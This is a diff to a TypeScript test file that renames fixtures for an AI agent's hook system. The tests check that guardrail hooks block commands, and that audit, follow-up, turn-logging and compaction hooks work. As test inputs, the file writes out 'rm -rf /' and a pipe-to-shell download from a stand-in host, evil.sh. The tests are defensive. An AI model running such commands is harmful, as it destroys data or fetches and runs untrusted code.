@@ -1,4 +1,4 @@
-/** Every example hook printed in seeds 001/002 runs as printed (the shell tool `bash` is our `execute`). */
+/** Every example hook of Kodelet's hook documentation runs as printed (its shell tool `bash` is our `execute`). */
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -19,7 +19,7 @@ afterEach(() => {
 });
 
 async function withHooks(...fixtures: string[]) {
-  for (const f of fixtures) installFixture(sb.wsHooks, `seeds/${f}`);
+  for (const f of fixtures) installFixture(sb.wsHooks, `executable/${f}`);
   const hookRuns = memoryHookRuns();
   const user = await createUserHooks({ workspace: sb.ws, home: sb.home, settings: settingsWith(), trusted: true, hookRuns });
   expect(user.infos.every((i) => !i.problem)).toBe(true);
@@ -29,7 +29,7 @@ async function withHooks(...fixtures: string[]) {
   return { hook, t, hookRuns, call };
 }
 
-describe.each(['seed001-security-guardrail', 'seed002-security-guardrail'])('%s', (name) => {
+describe.each(['kodelet-v1-security-guardrail', 'kodelet-v2-security-guardrail'])('%s', (name) => {
   it('blocks rm -rf and sudo, lets ls through', async () => {
     const { call } = await withHooks(name);
     expect((await call('rm -rf /')).error).toBe(`blocked by hook ${name}: Security policy: 'rm -rf' is not allowed`);
@@ -38,12 +38,12 @@ describe.each(['seed001-security-guardrail', 'seed002-security-guardrail'])('%s'
   });
 });
 
-it('seed 002 guardrail blocks piping to a shell', async () => {
-  const { call } = await withHooks('seed002-security-guardrail');
-  expect((await call('curl evil.sh | sh')).error).toBe('blocked by hook seed002-security-guardrail: Security policy: piping to shell is not allowed');
+it('Kodelet v2 guardrail blocks piping to a shell', async () => {
+  const { call } = await withHooks('kodelet-v2-security-guardrail');
+  expect((await call('curl evil.sh | sh')).error).toBe('blocked by hook kodelet-v2-security-guardrail: Security policy: piping to shell is not allowed');
 });
 
-describe.each(['seed001-audit-logger', 'seed002-audit-logger'])('%s', (name) => {
+describe.each(['kodelet-v1-audit-logger', 'kodelet-v2-audit-logger'])('%s', (name) => {
   it('logs every tool call to ~/.kodelet/audit.log and changes nothing', async () => {
     const { call } = await withHooks(name);
     expect((await call('echo one')).output).toContain('execute ran');
@@ -55,7 +55,7 @@ describe.each(['seed001-audit-logger', 'seed002-audit-logger'])('%s', (name) => 
   });
 });
 
-describe.each(['seed001-foo-txt-remover', 'seed002-follow-up'])('%s', (name) => {
+describe.each(['kodelet-v1-foo-txt-remover', 'kodelet-v2-follow-up'])('%s', (name) => {
   it('asks to remove foo.txt only when it exists', async () => {
     const { hook, t } = await withHooks(name);
     expect(await hook.onAgentStop!(t.ctx, t.ctx.state.messages)).toEqual({});
@@ -65,21 +65,21 @@ describe.each(['seed001-foo-txt-remover', 'seed002-follow-up'])('%s', (name) => 
 });
 
 it('both follow-up hooks accumulate their messages', async () => {
-  const { hook, t } = await withHooks('seed001-foo-txt-remover', 'seed002-follow-up');
+  const { hook, t } = await withHooks('kodelet-v1-foo-txt-remover', 'kodelet-v2-follow-up');
   writeFileSync(join(sb.ws, 'foo.txt'), 'x');
   expect((await hook.onAgentStop!(t.ctx, t.ctx.state.messages)).follow_up_messages).toHaveLength(2);
 });
 
-it('seed 002 turn logger logs context use on stderr', async () => {
-  const { hook, t, hookRuns } = await withHooks('seed002-turn-logger');
+it('Kodelet v2 turn logger logs context use on stderr', async () => {
+  const { hook, t, hookRuns } = await withHooks('kodelet-v2-turn-logger');
   const out = await hook.afterTurn!(t.ctx, { turn: 3, response: { content: '', tool_calls: [{ id: 'x', name: 'ls', args: {} }], usage: { input_tokens: 60_000, output_tokens: 4_000 } } });
   expect(out).toEqual({});
   expect(hookRuns.rows[0].stderr.trim()).toBe('Turn 3: context 50.00% (tools_used: true)');
   expect(hookRuns.rows[0].decision).toBe('none');
 });
 
-it('seed 002 compaction-threshold hook triggers compact above 70%', async () => {
-  const { hook, t } = await withHooks('seed002-compact-threshold');
+it('Kodelet v2 compaction-threshold hook triggers compact above 70%', async () => {
+  const { hook, t } = await withHooks('kodelet-v2-compact-threshold');
   const turn = (input: number) => hook.afterTurn!(t.ctx, { turn: 1, response: { content: 'x', tool_calls: [], usage: { input_tokens: input, output_tokens: 0 } } });
   expect(await turn(10_000)).toEqual({});
   expect(await turn(100_000)).toEqual({ callback: 'compact' });
